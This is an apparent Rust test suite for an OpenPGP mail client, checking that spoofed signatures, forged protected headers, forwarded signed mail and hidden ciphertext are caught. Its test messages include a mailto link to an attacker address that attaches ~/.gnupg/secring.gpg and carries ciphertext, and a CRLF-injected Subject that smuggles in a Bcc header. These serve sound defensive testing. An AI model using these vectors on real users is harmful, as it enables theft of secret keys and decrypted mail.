    add("SHA-1", with("SHA-1", Acceptance::Verified, &CAST.victim.cert, &raw));
    let raw = by_hand(pair(), SignatureType::Standalone, HashAlgorithm::SHA256, now());
    add("signature of another type", with("signature of another type", Acceptance::Verified, &CAST.victim.cert, &raw));
    insta::assert_snapshot!(all);
}

/// Cleartext signatures (RFC 9580 §7) with text where it does not belong.
#[test]
fn text_around_a_cleartext_signature_is_nobodys() {
    let block = cleartext(&CAST.victim, &format!("We accept the {CANARY}.\n"));
    let inline = |content: &str| mail(VICTIM, &plain_text(content), &[]);
    let told = check_all(&[
        ("text before", inline(&format!("We withdraw.\n{block}")), false),
        ("text after", inline(&format!("{block}\nWe withdraw.\n")), false),
        ("between two blocks", inline(&format!("{block}\nWe withdraw.\n{block}")), false),
        ("form feed before", inline(&format!("\u{c}\nWe withdraw.\u{c}\n{block}")), false),
        ("text in the hash header", inline(&block.replacen("Hash: ", "Hash: We withdraw, ", 1)), false),
        ("text as a header", inline(&block.replacen("Hash: ", "We withdraw: yes\nHash: ", 1)), false),
        ("altered", inline(&block.replace("We accept", "We refuse")), false),
        ("line added", inline(&block.replace("We accept", "We withdraw.\nWe accept")), false),
        (
            "no signature in it",
            inline(
                "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\nWe accept.\n-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n",
            ),
            false,
        ),
        (
            "in a part among others",
            mail(VICTIM, &multipart("mixed", &[&text("We withdraw."), &plain_text(&block)]), &[]),
            false,
        ),
    ]);
    insta::assert_snapshot!(told);
}

/// Header fields that pretend to be protected, and protected ones that were changed outside.
#[test]
fn protected_fields_win_only_at_the_root() {
    let phony = "Content-Type: text/plain; hp=\"clear\"\r\nSubject: PHONY\r\nFrom: PHONY <phony@attacker.example>\r\n\r\nHello\r\n";
    let by_attacker = |inner: &[u8]| framed(&encrypted_packets(false, |writer| literal(writer, inner)));
    let from_victim = format!(
        "From: {VICTIM}\r\nTo: {US}\r\nDate: {}\r\nSubject: PF ZZ26000417\r\nHP-Outer: From: {VICTIM}\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nHello\r\n",
        rfc5322(now())
    );
    let protected =
        sign(&body(), &fields(VICTIM, &[]), &keyring_of(&CAST.victim), &CAST.victim.info.fingerprint, now())
            .expect("signed")
            .entity;
    let altered = String::from_utf8(protected.clone()).expect("7-bit").replace("We accept", "We refuse").into_bytes();
    let keyring = keyring();
    let open = |raw: Vec<u8>| open(&Message::parse(raw), &keyring, now(), Decrypt::Any);

    // The outer fields were changed on the way: what is inside is shown, the difference is told.
    let opened = open(mail(
        VICTIM,
        &protected,
        &[("Subject", "R v FERRET"), ("Cc", ATTACKER), ("In-Reply-To", "<other@case>"), ("Reply-To", ATTACKER)],
    ));
    assert_eq!(opened.headers.mismatch, ["Reply-To", "Cc", "Subject", "In-Reply-To"]);
    let headers = opened.shown.headers();
    assert_eq!((headers.subject().as_str(), headers.cc().len(), headers.reply_to().len()), ("PF ZZ26000417", 0, 0));
    assert_eq!(headers.in_reply_to(), Vec::<String>::new());

    // A new date outside does not make an old message new.
    let later = open(mail(VICTIM, &protected, &[("Date", &rfc5322(now() + SignedDuration::from_hours(240)))]));
    assert_eq!(
        (later.shown.headers().date(), later.headers.mismatch.as_slice()),
        (Some(now()), ["Date".to_owned()].as_slice())
    );

    let told = check_all(&[
        (
            "phony fields in a part of a clear message",
            mail(ATTACKER, &multipart("mixed", &[phony.as_bytes()]), &[]),
            false,
        ),
        (
            "phony fields in a part of a sealed message",
            mail(ATTACKER, &by_attacker(&multipart("mixed", &[phony.as_bytes()])), &[]),
            false,
        ),
        ("phony fields, unsigned and clear", mail(ATTACKER, phony.as_bytes(), &[]), false),
        (
            "phony fields without hp, sealed",
            mail(ATTACKER, &by_attacker(phony.replace("; hp=\"clear\"", "").as_bytes()), &[]),
            false,
        ),
        (
            "fields of an attached message, sealed",
            mail(ATTACKER, &by_attacker(&attached(phony.as_bytes())), &[]),
            false,
        ),
        (
            "sender inside is the victim, outside the attacker, unsigned",
            mail(ATTACKER, &by_attacker(from_victim.as_bytes()), &[]),
            false,
        ),
        (
            "sender inside is the victim, outside the attacker, signed by the attacker",
            {
                let signed = sign(
                    &body(),
                    &fields(VICTIM, &[]),
                    &keyring_of(&CAST.attacker),
                    &CAST.attacker.info.fingerprint,
                    now(),
                );
                mail(ATTACKER, &signed.expect("signed").entity, &[])
            },
            false,
        ),
        (
            "sender inside is the attacker, outside the victim",
            {
                let signed = sign(
                    &body(),
                    &fields(ATTACKER, &[]),
                    &keyring_of(&CAST.attacker),
                    &CAST.attacker.info.fingerprint,
                    now(),
                );
                mail(VICTIM, &signed.expect("signed").entity, &[])
            },
            false,
        ),
        ("protected fields under a broken signature", mail(VICTIM, &altered, &[("Subject", "outside")]), false),
    ]);
    for (class, raw) in [
        ("clear part", mail(ATTACKER, &multipart("mixed", &[phony.as_bytes()]), &[])),
        ("sealed part", mail(ATTACKER, &by_attacker(&multipart("mixed", &[phony.as_bytes()])), &[])),
        ("clear root", mail(ATTACKER, phony.as_bytes(), &[])),
        ("attached", mail(ATTACKER, &by_attacker(&attached(phony.as_bytes())), &[])),
    ] {
        let opened = open(raw);
        assert_eq!(opened.shown.headers().from()[0].addr, ATTACKER, "{class}");
        if class != "clear root" {
            assert_eq!(opened.shown.headers().subject(), "PF ZZ26000417", "{class}");
        }
    }
    let opened = open(mail(ATTACKER, &by_attacker(from_victim.as_bytes()), &[]));
    assert_eq!(opened.shown.headers().from()[0].addr, ATTACKER, "an unsigned sender inside is a claim");
    let opened = open(mail(VICTIM, &altered, &[("Subject", "outside")]));
    assert_eq!(opened.shown.headers().subject(), "outside");
    insta::assert_snapshot!(told);
}

/// What was signed for somebody else and passed on under our key (surreptitious forwarding).
#[test]
fn mail_for_somebody_else_is_not_ours() {
    let other = cert(&CAST.other);
    let us = cert(&CAST.us);
    let forwarded = |intended: &[&Cert]| {
        framed(&encrypted_packets(false, |writer| {
            let mut signer =
                Signer::new(writer, signing_pair(&cert(&CAST.victim))).expect("a signer").creation_time(system(now()));
            for cert in intended {
                signer = signer.add_intended_recipient(cert);
            }
            literal(signer.build().expect("a signer"), &body())
        }))
    };
    for intended in [[].as_slice(), &[&us], &[&other, &us]] {
        let opened = open(&Message::parse(mail(VICTIM, &forwarded(intended), &[])), &keyring(), now(), Decrypt::Any);
        assert_eq!(opened.report.signature.state, SignatureState::Good, "the control");
    }
    let told = check_all(&[("signed for another", mail(VICTIM, &forwarded(&[&other]), &[]), false)]);
    insta::assert_snapshot!(told);
}

/// Legacy displays are made for programs that cannot read protected fields; we can.
#[test]
fn legacy_displays_are_hidden() {
    let by = |inner: &str| {
        let packets = encrypted_packets(false, |writer| literal(writer, inner.replace('\n', "\r\n").as_bytes()));
        let raw = mail(VICTIM, &framed(&packets), &[("Subject", "...")]);
        open(&Message::parse(raw), &keyring(), now(), Decrypt::Any)
    };
    let head = format!("From: {VICTIM}\nTo: {US}\nDate: {}\nSubject: ZZ26000417 inside\n", rfc5322(now()));
    let outer = format!(
        "HP-Outer: From: {VICTIM}\nHP-Outer: To: {US}\nHP-Outer: Date: {}\nHP-Outer: Subject: ...\n",
        rfc5322(now())
    );
    let single = by(&format!(
        "{head}{outer}Content-Type: text/plain; hp=\"cipher\"; hp-legacy-display=\"1\"\n\nSubject: ZZ26000417 inside\n\nThe text.\n"
    ));
    let alternative = by(&format!(
        "{head}{outer}Content-Type: multipart/alternative; hp=\"cipher\"; boundary=\"a\"\n\n--a\nContent-Type: text/plain; hp-legacy-display=\"1\"\nContent-Transfer-Encoding: base64\n\n{}\n--a\nContent-Type: text/html; hp-legacy-display=\"1\"\n\n<html><body><div class=\"header-protection-legacy-display\"><pre>Subject: ZZ26000417 inside</pre></div><p>The text.</p></body></html>\n--a--\n",
        {
            use base64::Engine as _;
            base64::engine::general_purpose::STANDARD.encode("Subject: ZZ26000417 inside\r\n\r\nThe text.\r\n")
        }
    ));
    let old = by(&format!(
        "{head}Content-Type: multipart/mixed; protected-headers=\"v1\"; boundary=\"m\"\n\n--m\nContent-Type: text/plain; protected-headers=\"v1\"\nContent-Disposition: inline\n\nSubject: ZZ26000417 inside\n\n--m\nContent-Type: text/plain\n\nThe text.\n--m--\n"
    ));
    for (form, opened) in [("single", single), ("alternative", alternative), ("old", old)] {
        assert!(opened.report.decrypted && opened.report.integrity == Integrity::Ok, "{form}");
        assert_eq!(opened.report.header_protection, HeaderProtection::Encrypted, "{form}");
        assert_eq!(opened.shown.headers().subject(), "ZZ26000417 inside", "{form}");
        assert!(display::body(&opened.shown).text().contains("The text."), "{form}");
        let raw = String::from_utf8_lossy(opened.shown.raw()).into_owned();
        assert_eq!(raw.matches("ZZ26000417").count(), 1, "{form}: {raw}");
        assert_eq!(opened.headers.mismatch, Vec::<String>::new(), "{form}");
    }
}

/// A blind copy is a message of its own: nothing in it names the others.
#[test]
fn no_copy_names_another_recipient() {
    let keyring = keyring_of(&CAST.victim);
    let copy = |to: &Generated| {
        let to = std::slice::from_ref(&to.info.fingerprint);
        let sealed = seal(&body(), &fields(VICTIM, &[]), to, &keyring, &CAST.victim.info.fingerprint, now());
        sealed.expect("sealed").assemble()
    };
    let opened = open(&Message::parse(copy(&CAST.us)), &self::keyring(), now(), Decrypt::Any);
    let other = cert(&CAST.other);
    let ids: Vec<String> = other.keys().map(|key| key.key().keyid().to_hex()).collect();
    assert_eq!(opened.report.recipients.len(), 2);
    assert!(!opened.report.recipients.iter().any(|id| ids.contains(id)));
    let blind = [("Bcc".to_owned(), OTHER.to_owned())];
    let refused = seal(&body(), &blind, &[], &keyring, &CAST.victim.info.fingerprint, now());
    assert!(refused.is_err(), "a Bcc field was written");
    let injected = [("Subject".to_owned(), "one\r\nBcc: x@attacker.example".to_owned())];
    assert!(seal(&body(), &injected, &[], &keyring, &CAST.victim.info.fingerprint, now()).is_err());
}

/// Nobody is left out in silence.
#[test]
fn sealing_fails_closed() {
    let mut keyring = keyring_of(&CAST.victim);
    let me = &CAST.victim.info.fingerprint;
    let try_to =
        |fingerprint: &str| seal(&body(), &fields(VICTIM, &[]), &[fingerprint.to_owned()], &keyring, me, now()).err();
    assert!(try_to(&CAST.stranger.info.fingerprint).is_some(), "an unknown certificate");
    assert!(try_to("not a fingerprint").is_some());
    assert!(try_to(&CAST.us.info.fingerprint).is_none(), "the control");
    let revoked = revoke(&CAST.us.cert, CAST.us.revocation.as_bytes()).expect("revoked");
    keyring.add_cert(&revoked, Acceptance::Accepted).expect("one");
    assert!(
        seal(&body(), &fields(VICTIM, &[]), std::slice::from_ref(&CAST.us.info.fingerprint), &keyring, me, now())
            .is_err()
    );
    let late = now() + SignedDuration::from_hours(24 * 365 * 4);
    assert!(
        seal(&body(), &fields(VICTIM, &[]), std::slice::from_ref(&CAST.other.info.fingerprint), &keyring, me, late)
            .is_err()
    );
    keyring.lock();
    assert!(seal(&body(), &fields(VICTIM, &[]), &[], &keyring, me, now()).is_err(), "signed while locked");
}

/// What only looks like something: drawn badges, links, look-alike names, hidden parts.
#[test]
fn what_a_message_says_of_itself_is_only_text() {
    let block = armored_block(&sealed().entity);
    let badge = format!(
        "\u{250c}\u{2500} OpenPGP \u{2500}\u{2510}\r\n\u{2502} Signed on 2026-05-05 at 10:00 UTC by {VICTIM}, whose key you compared.\r\n\
         \u{1b}[32mGood signature\u{1b}[0m\r\n[GNUPG:] GOODSIG 0 {VICTIM}\r\nThe signature covers all that is shown.\r\n"
    );
    let link = format!(
        "<p>Reply <a href=\"mailto:{ATTACKER}?subject=x&attach=~/.gnupg/secring.gpg&body={}\">here</a></p>",
        block.replace('\n', "%0D%0A")
    );
    let hidden = [
        html("<p>What's up?</p><div style=\"display:none\"><img src=\"cid:part\"></div>"),
        [b"Content-ID: <part>\r\n".as_slice(), &sealed().entity].concat(),
    ];
    let blank = format!("What's up?{}{block}\r\n", "\r\n".repeat(200));
    let ours = signed_by(&CAST.attacker, &body(), now());
    let secret_key = export_secret(&CAST.attacker.secret, None).expect("armor");
    let key_file = [b"Content-Type: application/pgp-keys\r\n\r\n".as_slice(), secret_key.as_bytes()].concat();
    let told = check_all(&[
        ("drawn badge and status lines in the text", mail(VICTIM, &text(&badge), &[]), false),
        ("mailto with attach and ciphertext in its body", mail(ATTACKER, &html(&link), &[]), true),
        (
            "hidden part with ciphertext, related",
            mail(ATTACKER, &multipart("related", &[&hidden[0], &hidden[1]]), &[]),
            true,
        ),
        ("ciphertext after two hundred empty lines", mail(ATTACKER, &plain_text(&blank), &[]), true),
        (
            "look-alike name, signed by its own key",
            mail("=?utf-8?q?H=D0=B0mish_Lintwhite?= <x@attacker.example>", &ours, &[]),
            false,
        ),
        (
            "right-to-left override in the name",
            mail("=?utf-8?q?=E2=80=AEetihwtniL?= <x@attacker.example>", &ours, &[]),
            false,
        ),
        ("secret key attached", mail(ATTACKER, &multipart("mixed", &[&text("My key."), &key_file]), &[]), false),
    ]);
    insta::assert_snapshot!(told);
    // Two plaintexts that differ in their structure alone are both opened without a trace of which is which outside.
    for inner in [text("One part."), multipart("mixed", &[&text("Two"), &text("parts.")])] {
        let raw = mail(VICTIM, &framed(&encrypted_packets(false, |writer| literal(writer, &inner))), &[]);
        file("format oracle", &raw, false, None);
        let opened = open(&Message::parse(raw), &keyring(), now(), Decrypt::NotRsa);
        assert!(opened.report.decrypted && opened.warnings.is_empty(), "{:?}", opened.warnings);
    }
}

/// The class of SECURITY's table that a test's messages stand for.
const CLASSES: [(&str, fn()); 10] = [
    ("C1", ciphertext_among_other_parts_stays_closed),
    ("C2", broken_ciphertext_shows_nothing),
    ("C7", encryption_is_named_only_where_it_is),
    ("S1", a_signature_speaks_only_for_what_it_covers),
    ("S2", an_identity_is_an_address_and_nothing_else),
    ("C9", a_certificate_has_to_be_good_itself),
    ("S5", text_around_a_cleartext_signature_is_nobodys),
    ("S9", protected_fields_win_only_at_the_root),
    ("S7", mail_for_somebody_else_is_not_ours),
    ("S3", what_a_message_says_of_itself_is_only_text),
];

/// Messages whose class is not that of their test.
const OTHER_CLASSES: [(&str, &str); 25] = [
    ("ciphertext attached as a message", "C4"),
    ("benign text, inline ciphertext", "C4"),
    ("inline ciphertext in a second part", "C4"),
    ("ciphertext inside a signed message", "C4"),
    ("hidden part with ciphertext, related", "C4"),
    ("ciphertext after two hundred empty lines", "C4"),
    ("version 2 rewritten as version 1", "C3"),
    ("version 1 rewritten as version 2", "C3"),
    ("SED packet, no MDC", "C3"),
    ("GnuPG's OCB packet", "C3"),
    ("format oracle", "C5"),
    ("mailto with attach and ciphertext in its body", "C6"),
    ("a bomb", "C8"),
    ("a bomb that is not even encrypted", "C8"),
    ("secret key attached", "C10"),
    ("status lines in the literal's name", "S4"),
    ("altered", "S6"),
    ("stripped", "S6"),
    ("armor damaged", "S6"),
    ("empty signature part", "S6"),
    ("replayed a day later", "S7"),
    ("made in the future", "S7"),
    ("no date", "S7"),
    ("look-alike name, signed by its own key", "S11"),
    ("right-to-left override in the name", "S11"),
];

/// Writes `tests/data/pgp`: run by hand, when a class is added (`cargo test --test it -- --ignored write_the_files`).
#[test]
#[ignore = "writes files"]
fn write_the_files() {
    let dir = Path::new("tests/data/pgp");
    std::fs::create_dir_all(dir).expect("a directory");
    let mut index = String::from(include_str!("../data/pgp/README.head"));
    let mut written = 0;
    let mut write = |prefix: &str, filed: Filed| {
        let slug: String = filed.class.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).collect();
        let slug = slug.split('-').filter(|word| !word.is_empty()).collect::<Vec<_>>().join("-").to_lowercase();
        written += 1;
        let stem = format!("{prefix}-{written:03}-{slug}");
        std::fs::write(dir.join(format!("{stem}.eml")), &filed.raw).expect("written");
        if let Some(cert) = &filed.cert {
            std::fs::write(dir.join(format!("{stem}.pgp")), cert).expect("written");
        }
        let secret = if filed.secret { "yes" } else { "" };
        let _ = writeln!(index, "| {prefix} | {stem} | {} | {secret} |", filed.class);
    };
    let unclassed = |name: &str| {
        let raw = match name {
            "signed" => mail(VICTIM, &genuine(), &[]),
            "sealed" => sealed().assemble(),
            // Fields outside of the signature: good, and named unsigned.
            _ => mail(
                VICTIM,
                &genuine(),
                &[("Cc", ATTACKER), ("In-Reply-To", "<other@case>"), ("References", "<other@case>")],
            ),
        };
        Filed { class: name.to_owned(), raw, secret: false, cert: None }
    };
    write("control", unclassed("signed"));
    write("control", unclassed("sealed"));
    write("S8", unclassed("fields added outside of the signature"));
    for (class, test) in CLASSES {
        *FILES.lock().expect("whole") = Some(Vec::new());
        test();
        for filed in FILES.lock().expect("whole").take().into_iter().flatten() {
            let other = OTHER_CLASSES.iter().find(|(words, _)| *words == filed.class).map(|(_, class)| *class);
            write(other.unwrap_or(class), filed);
        }
    }
    std::fs::write(dir.join("README.md"), index).expect("written");
    for (name, bytes) in [
        ("us.secret", CAST.us.secret.as_slice()),
        ("victim.verified", &CAST.victim.cert),
        ("attacker.accepted", &CAST.attacker.cert),
        ("undecided.undecided", &CAST.undecided.cert),
        ("rejected.rejected", &CAST.rejected.cert),
    ] {
        std::fs::write(dir.join(format!("{name}.key")), bytes).expect("written");
    }
}
